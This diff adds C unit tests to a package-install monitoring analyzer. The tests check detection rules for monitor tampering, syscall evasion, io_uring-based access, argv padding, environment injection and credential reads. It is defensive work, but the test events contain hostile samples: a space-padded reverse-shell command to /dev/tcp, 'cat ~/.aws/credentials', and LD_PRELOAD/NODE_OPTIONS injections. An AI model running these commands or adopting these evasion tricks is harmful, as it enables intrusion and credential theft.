@@ -302,6 +302,61 @@ static void identity_mismatch_alike(struct analyzer *an)
 	pkg_script(an);
 }
 
+#define COLLECTOR 99   /* the session info's collector pid */
+#define MONITOR_MAP 77 /* one of pkgtrace's map ids in the session info */
+
+/* call: a record of type by pid with its args, flags, result and path. */
+static void call(struct analyzer *an, uint32_t type, uint32_t pid, uint64_t a0, uint64_t a1, uint64_t a2,
+		 uint32_t flags, int ret, const char *path)
+{
+	evb_start(&B, type, pid, 1);
+	B.ev.arg[0] = a0;
+	B.ev.arg[1] = a1;
+	B.ev.arg[2] = a2;
+	B.ev.flags = flags;
+	B.ev.ret = ret;
+	if (path)
+		evb_str(&B, path);
+	evb_feed(&B, an);
+}
+
+/* a lookup in pkgtrace's tree map by fd */
+static void monitor_tamper_fire(struct analyzer *an)
+{
+	pkg_script(an);
+	call(an, PT_EV_BPF, 101, 1 /* BPF_MAP_LOOKUP_ELEM */, 5, MONITOR_MAP, 0, -2, NULL);
+}
+
+/* signals to its own child and a read of another process: not the monitor */
+static void monitor_tamper_alike(struct analyzer *an)
+{
+	pkg_script(an);
+	call(an, PT_EV_SIGNAL, 101, 102, 15, PT_SIG_KILL, 0, 0, NULL);
+	call(an, PT_EV_SIGNAL, 101, 4321, 0, PT_SIG_KILL, 0, -3, NULL);
+	call(an, PT_EV_PROCVM, 101, 102, 0, 0, 0, 16, NULL);
+}
+
+static void evasion_fire(struct analyzer *an)
+{
+	pkg_script(an);
+	call(an, PT_EV_SYS, 101, PT_SYS_CHROOT, 0, 0, 0, 0, "/root/.aws");
+}
+
+/* unshare of no namespace, a long argv without padding under the bound */
+static void evasion_alike(struct analyzer *an)
+{
+	char arg[600];
+	const char *argv[] = { "cc", arg, NULL };
+
+	memset(arg, 'x', sizeof(arg) - 1);
+	arg[sizeof(arg) - 1] = '\0';
+	for (size_t i = 0; i + 1 < sizeof(arg); i += 50)
+		arg[i] = ' ';
+	pkg_script(an);
+	call(an, PT_EV_SYS, 101, PT_SYS_UNSHARE, 0x00000200 /* CLONE_FS */, 0, 0, 0, NULL);
+	run(an, 102, "/usr/bin/cc", argv, 0, false);
+}
+
 struct rule_case {
 	const char *rule;
 	int sev;                      /* severity when it fires */
@@ -325,9 +380,11 @@ static const struct rule_case cases[] = {
 	{ "tamper", SEV_HIGH, "pkg", tamper_fire, tamper_alike },
 	{ "listen-socket", SEV_MEDIUM, "pkg", listen_socket_fire, listen_socket_alike },
 	{ "privilege-change", SEV_HIGH, "pkg", privilege_change_fire, privilege_change_alike },
-	{ "trace-incomplete", SEV_MEDIUM, NULL, trace_incomplete_fire, trace_incomplete_alike },
+	{ "trace-incomplete", SEV_HIGH, NULL, trace_incomplete_fire, trace_incomplete_alike },
 	{ "ipc-outside", SEV_HIGH, "pkg", ipc_outside_fire, ipc_outside_alike },
 	{ "identity-mismatch", SEV_HIGH, "evil", identity_mismatch_fire, identity_mismatch_alike },
+	{ "monitor-tamper", SEV_CRITICAL, "pkg", monitor_tamper_fire, monitor_tamper_alike },
+	{ "evasion", SEV_HIGH, "pkg", evasion_fire, evasion_alike },
 };
 
 /* analyze: the install around body, its report. */
@@ -339,7 +396,8 @@ static struct report *analyze(void (*body)(struct analyzer *))
 	struct session_info si = {
 		.argc = 2, .argv = si_argv, .cwd = PROJ, .envc = 2, .env = si_env,
 		.hostname = "host", .kernel = "6.18", .start_ns = 1000, .end_ns = 5000000000ull,
-		.root_pid = 100, .exit_status = 0,
+		.root_pid = 100, .exit_status = 0, .collector_pid = COLLECTOR,
+		.nmonitor_maps = 1, .monitor_maps = { MONITOR_MAP },
 	};
 	struct analyzer *an = bl ? analyzer_new(bl, &si) : NULL;
 	struct facts *f = facts_new(0);
@@ -983,6 +1041,384 @@ static void test_npm_approvals(void)
 	verdict("{\"name\":\"proj\"}", -1, -1);
 }
 
+/* find_key: the finding of rule with key (any owner), or NULL. */
+static const struct finding *find_key(const struct report *r, const char *rule, const char *key)
+{
+	for (size_t i = 0; r && i < r->nfindings; i++) {
+		const struct finding *f = &r->findings[i];
+
+		if (!strcmp(rule_info[f->rule].id, rule) && f->key && !strcmp(f->key, key))
+			return f;
+	}
+	return NULL;
+}
+
+/* expect: body gives rule's finding with key at sev (owned by pkg when
+ * pkg), or none at all of rule with key when sev is -1. */
+static void expect(const char *what, void (*body)(struct analyzer *), const char *rule, const char *key, int sev,
+		   const char *pkg)
+{
+	struct report *r = analyze(body);
+	const struct finding *f = find_key(r, rule, key);
+	int before = unit_failed_checks;
+
+	if (sev < 0) {
+		CHECK(!f);
+	} else {
+		CHECK(f && f->sev == sev);
+		if (f && pkg)
+			CHECK(f->owner >= 0 && r->owners[f->owner]->name && !strcmp(r->owners[f->owner]->name, pkg));
+	}
+	if (unit_failed_checks != before) {
+		printf("# %s (%s %s):\n", what, rule, key);
+		dump(r);
+	}
+	report_free(r);
+}
+
+/* ---- monitor-tamper: each way at the monitor ---- */
+
+static void kill_collector(struct analyzer *an)
+{
+	pkg_script(an);
+	call(an, PT_EV_SIGNAL, 101, COLLECTOR, 9, PT_SIG_KILL, 0, 0, NULL);
+}
+static void probe_collector(struct analyzer *an)
+{
+	pkg_script(an);
+	call(an, PT_EV_SIGNAL, 101, COLLECTOR, 0, PT_SIG_PIDFD, 0, 0, NULL);
+}
+static void stop_init(struct analyzer *an)
+{
+	pkg_script(an);
+	call(an, PT_EV_SIGNAL, 101, 1, 19, PT_SIG_TKILL, 0, 0, NULL);
+}
+static void kill_all(struct analyzer *an)
+{
+	pkg_script(an);
+	call(an, PT_EV_SIGNAL, 101, (uint32_t)-1, 9, PT_SIG_KILL, 0, 0, NULL);
+}
+static void map_by_id(struct analyzer *an)
+{
+	pkg_script(an);
+	call(an, PT_EV_BPF, 101, 14 /* BPF_MAP_GET_FD_BY_ID */, MONITOR_MAP, 0, 0, 3, NULL);
+}
+static void link_walk(struct analyzer *an)
+{
+	pkg_script(an);
+	call(an, PT_EV_BPF, 101, 31 /* BPF_LINK_GET_NEXT_ID */, 0, 0, 0, 0, NULL);
+}
+static void own_map(struct analyzer *an)
+{
+	pkg_script(an);
+	call(an, PT_EV_BPF, 101, 0 /* BPF_MAP_CREATE */, 2, 0, 0, 3, NULL);
+}
+static void vm_write(struct analyzer *an)
+{
+	pkg_script(an);
+	call(an, PT_EV_PROCVM, 101, 100, 1, 0, 0, 8, NULL);
+}
+static void vm_read_collector(struct analyzer *an)
+{
+	pkg_script(an);
+	call(an, PT_EV_PROCVM, 101, COLLECTOR, 0, 0, 0, 8, NULL);
+}
+static void ptrace_seize(struct analyzer *an)
+{
+	pkg_script(an);
+	call(an, PT_EV_PTRACE, 101, 0x4206, 100, 0, 0, 0, NULL);
+}
+/* the package manager signalling its own script: no attack */
+static void pm_kills_script(struct analyzer *an)
+{
+	pkg_script(an);
+	call(an, PT_EV_SIGNAL, 100, 101, 15, PT_SIG_KILL, 0, 0, NULL);
+}
+/* the traced command itself at the collector: judged too */
+static void command_kills_collector(struct analyzer *an)
+{
+	call(an, PT_EV_SIGNAL, 100, COLLECTOR, 9, PT_SIG_KILL, 0, 0, NULL);
+}
+
+static void test_monitor_tamper(void)
+{
+	expect("kill -9 collector", kill_collector, "monitor-tamper", "signal-collector", SEV_CRITICAL, "pkg");
+	expect("pidfd signal 0", probe_collector, "monitor-tamper", "probe-collector", SEV_HIGH, "pkg");
+	expect("SIGSTOP pid 1", stop_init, "monitor-tamper", "signal-init", SEV_CRITICAL, "pkg");
+	expect("kill -1", kill_all, "monitor-tamper", "signal-all", SEV_CRITICAL, "pkg");
+	expect("map by id", map_by_id, "monitor-tamper", "bpf-monitor-map", SEV_CRITICAL, "pkg");
+	expect("link walk", link_walk, "monitor-tamper", "bpf-objects", SEV_CRITICAL, "pkg");
+	expect("own map", own_map, "monitor-tamper", "bpf", SEV_HIGH, "pkg");
+	expect("vm write", vm_write, "monitor-tamper", "process_vm_writev", SEV_CRITICAL, "pkg");
+	expect("vm read collector", vm_read_collector, "monitor-tamper", "read-collector", SEV_CRITICAL, "pkg");
+	expect("ptrace seize", ptrace_seize, "monitor-tamper", "ptrace-attach", SEV_CRITICAL, "pkg");
+	expect("pm kills script", pm_kills_script, "monitor-tamper", "signal-group", -1, NULL);
+	expect("command kills collector", command_kills_collector, "monitor-tamper", "signal-collector",
+	       SEV_CRITICAL, NULL);
+}
+
+/* ---- evasion: each way around the view ---- */
+
+static void int80_open(struct analyzer *an)
+{
+	pkg_script(an);
+	call(an, PT_EV_OPEN, 101, O_RDONLY, 0, 0, PT_F_COMPAT, 3, PKG "/x");
+}
+static void bind_mount(struct analyzer *an)
+{
+	pkg_script(an);
+	call(an, PT_EV_SYS, 101, PT_SYS_MOUNT, 0x1000 /* MS_BIND */, 0, 0, 0, "/tmp/x");
+}
+static void unshare_user(struct analyzer *an)
+{
+	pkg_script(an);
+	call(an, PT_EV_SYS, 101, PT_SYS_UNSHARE, 0x10000000, 0, 0, -1, NULL);
+}
+static void unshare_net(struct analyzer *an)
+{
+	pkg_script(an);
+	call(an, PT_EV_SYS, 101, PT_SYS_UNSHARE, 0x40000000, 0, 0, 0, NULL);
+}
+static void by_handle(struct analyzer *an)
+{
+	pkg_script(an);
+	call(an, PT_EV_OPEN, 101, O_RDONLY, 0, 0, PT_F_BY_HANDLE, 4, "/root/.aws/credentials");
+}
+static void uring_setup(struct analyzer *an)
+{
+	pkg_script(an);
+	call(an, PT_EV_SYS, 101, PT_SYS_IO_URING_SETUP, 0, 8, 0, 3, NULL);
+}
+static void uring_fixed(struct analyzer *an)
+{
+	pkg_script(an);
+	call(an, PT_EV_IOURING, 101, 22 /* READ */, (uint64_t)-1, 1, PT_F_IOURING, 0, NULL);
+}
+/* the package manager's own io_uring: not judged */
+static void pm_uring(struct analyzer *an)
+{
+	call(an, PT_EV_SYS, 100, PT_SYS_IO_URING_SETUP, 0, 8, 0, 3, NULL);
+}
+
+static void test_evasion(void)
+{
+	expect("int 0x80", int80_open, "evasion", "compat32", SEV_HIGH, "pkg");
+	expect("bind mount", bind_mount, "evasion", "mount", SEV_HIGH, "pkg");
+	expect("unshare user (failed)", unshare_user, "evasion", "unshare", SEV_HIGH, "pkg");
+	expect("unshare net", unshare_net, "evasion", "unshare", SEV_MEDIUM, "pkg");
+	expect("by handle", by_handle, "evasion", "open_by_handle_at", SEV_HIGH, "pkg");
+	expect("by handle is a read", by_handle, "credential-access", "aws", SEV_HIGH, "pkg");
+	expect("io_uring setup", uring_setup, "evasion", "io_uring", SEV_LOW, "pkg");
+	expect("io_uring fixed file", uring_fixed, "evasion", "io_uring-fixed-file", SEV_MEDIUM, "pkg");
+	expect("pm io_uring", pm_uring, "evasion", "io_uring", -1, NULL);
+}
+
+/* ---- io_uring requests are judged as the syscalls (ret 0: unknown) ---- */
+
+static void uring_cred(struct analyzer *an)
+{
+	pkg_script(an);
+	call(an, PT_EV_OPEN, 101, O_RDONLY, 0, 0, PT_F_IOURING, 0, "/root/.aws/credentials");
+}
+static void uring_connect(struct analyzer *an)
+{
+	pkg_script(an);
+	evb_start(&B, PT_EV_CONNECT, 101, 1);
+	B.ev.arg[0] = AF_INET;
+	B.ev.arg[1] = 443;
+	B.ev.arg[2] = SOCK_STREAM;
+	B.ev.flags = PT_F_IOURING;
+	evb_field(&B, (const uint8_t[]){ 203, 0, 113, 5 }, 4);
+	evb_feed(&B, an);
+}
+static void uring_bashrc(struct analyzer *an)
+{
+	pkg_script(an);
+	call(an, PT_EV_OPEN, 101, O_WRONLY | O_APPEND, 0, 0, PT_F_IOURING, 0, "/root/.bashrc");
+}
+
+static void test_iouring_like_syscalls(void)
+{
+	expect("io_uring OPENAT of credentials", uring_cred, "credential-access", "aws", SEV_HIGH, "pkg");
+	expect("io_uring CONNECT", uring_connect, "network-egress", "203.0.113.5:443/tcp", SEV_MEDIUM, "pkg");
+	expect("io_uring OPENAT for append to .bashrc", uring_bashrc, "persistence", "shell-rc", SEV_HIGH, "pkg");
+}
+
+/* ---- the whole argv is judged ---- */
+
+static char padded_cmd[8192];
+
+static void padded_shell(struct analyzer *an, size_t spaces)
+{
+	const char *argv[] = { "bash", "-c", padded_cmd, NULL };
+
+	memset(padded_cmd, ' ', spaces);
+	strcpy(padded_cmd + spaces, "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1");
+	pkg_script(an);
+	run(an, 102, "/usr/bin/bash", argv, 0, false);
+}
+static void pad1500(struct analyzer *an) { padded_shell(an, 1500); }
+
+/* 5,000 spaces: the kernel keeps the list's first 3 KiB and last 1 KiB */
+static void pad5000(struct analyzer *an)
+{
+	char list[8192], kept[PT_ARGV_MAX];
+	size_t n = 0;
+
+	memcpy(list, "bash\0-c\0", 8);
+	n = 8;
+	memset(list + n, ' ', 5000);
+	n += 5000;
+	strcpy(list + n, "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1");
+	n += strlen(list + n) + 1;
+	memcpy(kept, list, 3072);
+	memcpy(kept + 3072, list + n - 1024, 1024);
+	pkg_script(an);
+	ev_fork(&B, an, 101, 102);
+	evb_start(&B, PT_EV_EXEC, 102, 1);
+	B.ev.flags = PT_F_ARGV_TAIL | PT_F_TRUNC(1);
+	evb_str(&B, "/usr/bin/bash");
+	evb_field(&B, kept, sizeof(kept));
+	evb_str(&B, PKG);
+	evb_list(&B, base_env);
+	evb_feed(&B, an);
+}
+
+static void test_long_argv(void)
+{
+	expect("1,500 spaces", pad1500, "unexpected-exec", "reverse-shell", SEV_CRITICAL, "pkg");
+	expect("1,500 spaces: padding", pad1500, "evasion", "argv-padding", SEV_HIGH, "pkg");
+	expect("5,000 spaces (head and tail)", pad5000, "unexpected-exec", "reverse-shell", SEV_CRITICAL, "pkg");
+	expect("5,000 spaces: padding", pad5000, "evasion", "argv-padding", SEV_HIGH, "pkg");
+}
+
+/* ---- environment injection ---- */
+
+static const char *inj_env[3];
+
+static void set_for_child(struct analyzer *an)
+{
+	const char *argv[] = { "node", "build.js", NULL };
+	const char *env[] = { "HOME=/root", inj_env[0], inj_env[1], NULL };
+
+	pkg_script(an);
+	ev_fork(&B, an, 101, 102);
+	ev_exec(&B, an, 102, "/usr/bin/node", argv, PKG, env);
+}
+static void ld_preload(struct analyzer *an)
+{
+	inj_env[0] = "LD_PRELOAD=/tmp/hook.so";
+	inj_env[1] = NULL;
+	set_for_child(an);
+}
+static void node_require(struct analyzer *an)
+{
+	inj_env[0] = "NODE_OPTIONS=--max-old-space-size=4096 --require /tmp/x.js";
+	inj_env[1] = NULL;
+	set_for_child(an);
+}
+static void node_heap(struct analyzer *an)
+{
+	inj_env[0] = "NODE_OPTIONS=--max-old-space-size=4096";
+	inj_env[1] = NULL;
+	set_for_child(an);
+}
+static void bash_env(struct analyzer *an)
+{
+	inj_env[0] = "BASH_ENV=/tmp/rc";
+	inj_env[1] = NULL;
+	set_for_child(an);
+}
+static void libpath_tmp(struct analyzer *an)
+{
+	inj_env[0] = "LD_LIBRARY_PATH=" PKG "/build:/tmp/evil";
+	inj_env[1] = NULL;
+	set_for_child(an);
+}
+static void libpath_own(struct analyzer *an)
+{
+	inj_env[0] = "LD_LIBRARY_PATH=" PKG "/build/Release:/usr/lib/x86_64-linux-gnu";
+	inj_env[1] = "PYTHONPATH=" PKG "/py";
+	set_for_child(an);
+}
+/* the package manager gave the script LD_PRELOAD (the user's own, say):
+ * its children keep it */
+static void given_by_pm(struct analyzer *an)
+{
+	const char *env[] = { "npm_lifecycle_event=postinstall", "npm_package_name=pkg",
+			      "npm_package_json=" PKG "/package.json", "LD_PRELOAD=/usr/lib/libeatmydata.so", NULL };
+	const char *sh[] = { "sh", "-c", "node build.js", NULL }, *node[] = { "node", "build.js", NULL };
+	const char *child[] = { "LD_PRELOAD=/usr/lib/libeatmydata.so", NULL };
+
+	ev_fork(&B, an, 100, 101);
+	ev_exec(&B, an, 101, "/bin/sh", sh, PKG, env);
+	ev_fork(&B, an, 101, 102);
+	ev_exec(&B, an, 102, "/usr/bin/node", node, PKG, child);
+}
+
+static void test_env_injection(void)
+{
+	expect("LD_PRELOAD", ld_preload, "unexpected-exec", "env:LD_PRELOAD", SEV_HIGH, "pkg");
+	expect("NODE_OPTIONS --require", node_require, "unexpected-exec", "env:NODE_OPTIONS", SEV_HIGH, "pkg");
+	expect("NODE_OPTIONS heap size", node_heap, "unexpected-exec", "env:NODE_OPTIONS", -1, NULL);
+	expect("BASH_ENV", bash_env, "unexpected-exec", "env:BASH_ENV", SEV_HIGH, "pkg");
+	expect("LD_LIBRARY_PATH into /tmp", libpath_tmp, "unexpected-exec", "env:LD_LIBRARY_PATH", SEV_HIGH, "pkg");
+	expect("LD_LIBRARY_PATH own build", libpath_own, "unexpected-exec", "env:LD_LIBRARY_PATH", -1, NULL);
+	expect("PYTHONPATH own folder", libpath_own, "unexpected-exec", "env:PYTHONPATH", -1, NULL);
+	expect("LD_PRELOAD given by the PM", given_by_pm, "unexpected-exec", "env:LD_PRELOAD", -1, NULL);
+}
+
+/* ---- blame shifting: a script's own npm-cli.js ---- */
+
+static void fake_npm(struct analyzer *an)
+{
+	const char *argv[] = { "node", PKG "/x/npm-cli.js", "run", "postinstall", NULL };
+	const char *env[] = { "npm_lifecycle_event=postinstall", "npm_package_name=proj",
+			      "npm_package_json=" PROJ "/package.json", "HOME=/root", NULL };
+	const char *sh[] = { "sh", "-c", "cat ~/.aws/credentials", NULL };
+
+	pkg_script(an);
+	ev_fork(&B, an, 101, 102);
+	ev_exec(&B, an, 102, "/usr/bin/node", argv, PKG, base_env);
+	ev_open(&B, an, 102, "/root/.npmrc", O_RDONLY);
+	ev_fork(&B, an, 102, 103);
+	ev_exec(&B, an, 103, "/bin/sh", sh, PROJ, env);
+	ev_open(&B, an, 103, "/root/.aws/credentials", O_RDONLY);
+}
+
+/* the real npm (the program the install ran) inside a script: npm run build */
+static void nested_real_npm(struct analyzer *an)
+{
+	const char *argv[] = { "node", "/usr/bin/npm", "run", "build", NULL };
+	const char *env[] = { "npm_lifecycle_event=build", "npm_package_name=pkg",
+			      "npm_package_json=" PKG "/package.json", "HOME=/root", NULL };
+	const char *sh[] = { "sh", "-c", "tsc", NULL };
+
+	pkg_script(an);
+	ev_fork(&B, an, 101, 102);
+	ev_exec(&B, an, 102, "/usr/bin/node", argv, PKG, base_env);
+	ev_open(&B, an, 102, "/root/.npmrc", O_RDONLY);
+	ev_fork(&B, an, 102, 103);
+	ev_exec(&B, an, 103, "/bin/sh", sh, PKG, env);
+}
+
+static void test_blame_shifting(void)
+{
+	struct report *r = analyze(fake_npm), *n;
+
+	expect("fake npm: the read stays pkg's", fake_npm, "credential-access", "aws", SEV_HIGH, "pkg");
+	expect("fake npm: its .npmrc read is pkg's", fake_npm, "credential-access", "npm-token", SEV_HIGH, "pkg");
+	CHECK(!find(r, "credential-access", "proj"));
+	report_free(r);
+	expect("real npm run build: its .npmrc read is npm's", nested_real_npm, "credential-access", "npm-token",
+	       -1, NULL);
+	n = analyze(nested_real_npm);
+	for (size_t i = 0; n && i < n->nowners; i++)
+		if (n->owners[i]->name && !strcmp(n->owners[i]->name, "pkg"))
+			CHECK(n->owners[i]->set[PS_SCRIPTS].n == 2); /* postinstall and build */
+	report_free(n);
+}
+
 int main(void)
 {
 	TEST(test_each_rule);
@@ -998,5 +1434,11 @@ int main(void)
 	TEST(test_package_content_hooks);
 	TEST(test_home_writes);
 	TEST(test_npm_approvals);
+	TEST(test_monitor_tamper);
+	TEST(test_evasion);
+	TEST(test_iouring_like_syscalls);
+	TEST(test_long_argv);
+	TEST(test_env_injection);
+	TEST(test_blame_shifting);
 	return unit_failed_tests ? 1 : 0;
 }
